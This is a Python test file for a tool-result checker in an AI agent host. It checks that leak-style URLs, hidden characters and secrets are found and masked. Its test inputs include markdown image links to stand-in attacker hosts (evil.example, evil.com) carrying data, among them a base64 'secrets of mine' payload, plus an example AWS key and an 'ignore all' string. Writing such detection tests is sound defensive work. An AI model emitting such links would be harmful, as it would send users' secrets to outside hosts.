"""What rules find in results; ``tests/host/pipeline/test_result_stage`` has what then happens."""

from __future__ import annotations

import time

import pytest

from antiphon.host.checks.result_rules import FORMS, ResultRule, examine_result
from antiphon.wire.content import (
    ContentBlock,
    EmbeddedResource,
    ImageContent,
    ResourceContents,
    TextContent,
    UnknownContent,
)
from antiphon.wire.tools import CallToolRequestParams, CallToolResult
from tests.host.asks import origin

CALL = CallToolRequestParams.of("fetch", {"url": "https://docs.example.org"})


async def found(*content: TextContent | ImageContent, rule: ResultRule | None = None) -> set[str]:
    """Return the forms that are found."""
    result = CallToolResult(content=list(content))
    return set((await examine_result([rule or ResultRule(effect="mask")], result, CALL, origin())).effects)


@pytest.mark.parametrize(
    "text",
    ["plain text", "see https://docs.example.org/?q=1", "https://evil.example/path", "https://evil.example/?q", "👩‍💻"],
)
async def test_ordinary_text_has_none_of_the_forms(text: str):
    """Also addresses without data, and emoji of several characters."""
    assert await found(TextContent(text=text)) == set()


@pytest.mark.parametrize("host", ["ocs.example.org", "example.org", "docs.example.org.evil.com", "evil.com"])
async def test_only_a_whole_name_of_a_host_counts_as_named(host: str):
    """A part of a name that the call has is another host."""
    assert await found(TextContent(text=f"https://{host}/?d=1")) == {"leak"}


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example\\@docs.example.org/?d=1",
        "https:///evil.example/?d=1",
        "https:evil.example/?d=1",
        "https:\\\\evil.example?d=1",
        "https://[evil/?d=1",
        "https://evil.example/?c2VjcmV0cyBvZiBtaW5l",
    ],
)
async def test_a_host_is_the_one_that_a_browser_would_ask(address: str):
    """However the address is written; what is no address at all names no host of the call either."""
    assert await found(TextContent(text=f"![]({address})")) == {"leak"}


async def test_the_data_of_an_image_is_not_searched():
    """It is base64, in which anything may look like a secret."""
    image = ImageContent(data="AKIAIOSFODNN7EXAMPLE", mime_type="image/png")
    assert await found(image) == set()


async def test_a_rule_is_about_its_forms_only():
    """By default about all."""
    assert ResultRule(effect="ask").found == FORMS
    text = TextContent(text="AKIAIOSFODNN7EXAMPLE \u200b")
    assert await found(text, rule=ResultRule(effect="ask", found=("hidden",))) == {"hidden"}


def test_a_limit_is_above_0():
    """With the name of the option in the message."""
    with pytest.raises(ValueError, match="max_characters"):
        ResultRule(effect="mask", max_characters=0)


@pytest.mark.parametrize(
    "text", ["https://a/" * 1_600, "http://?" * 2_000, "ignore all " * 1_400, "https://a?=" * 1_400]
)
async def test_no_text_takes_long(text: str):
    """Each pattern takes linear time; bounded by processor time, since the machine may be busy."""
    before = time.process_time()
    await found(TextContent(text=text[:16_000]))
    assert time.process_time() - before < 1


@pytest.mark.parametrize(
    ("block", "left"),
    [
        (EmbeddedResource(resource=ResourceContents.of("a:b", b"key AKIAIOSFODNN7EXAMPLE")), "key [AWS access key]"),
        (
            EmbeddedResource(resource=ResourceContents.of("a:b", b"\xffAKIAIOSFODNN7EXAMPLE", "text/plain")),
            "\ufffd[AWS access key]",
        ),
        (ImageContent(data="key: AKIAIOSFODNN7EXAMPLE!", mime_type="image/png"), "image/png: key: [AWS access key]!"),
        (ImageContent.of(b"AKIAIOSFODNN7EXAMPLE", "image/png"), "image/png: [AWS access key]"),
        (
            EmbeddedResource(resource=ResourceContents(uri="a:b", blob="a2V5IEFLSUFJT1NG\r\nT0ROTjdFWEFNUExF")),
            "key [AWS access key]",
        ),
        (
            EmbeddedResource(resource=ResourceContents(uri="a:b", blob="fn5-IEFLSUFJT1NGT0ROTjdFWEFNUExFIA")),
            "~~~ [AWS access key] ",
        ),
        (UnknownContent("new", {"body": {"a": ["AKIAIOSFODNN7EXAMPLE"]}}), "[AWS access key]"),
    ],
)
async def test_text_in_any_kind_of_block_is_masked(block: ContentBlock, left: str):
    """Data in base64 that is text, what only claims to be base64, and blocks of kinds that are not known."""
    examined = await examine_result([ResultRule(effect="mask")], CallToolResult(content=[block]), CALL, origin())
    made = examined.masked.content[0]
    assert left in str(made.resource.text if isinstance(made, EmbeddedResource) else made)
    assert "AKIA" not in str(made)


async def test_a_large_result_with_an_unknown_block_is_examined_aside():
    """In a side process, which decodes it as we do."""
    block = UnknownContent("new", {"body": "word " * 100_000 + "AKIAIOSFODNN7EXAMPLE"})
    examined = await examine_result([ResultRule(effect="mask")], CallToolResult(content=[block]), CALL, origin())
    assert examined.effects == {"secret": "mask", "size": "mask"}
    assert "AKIA" not in str(examined.masked)
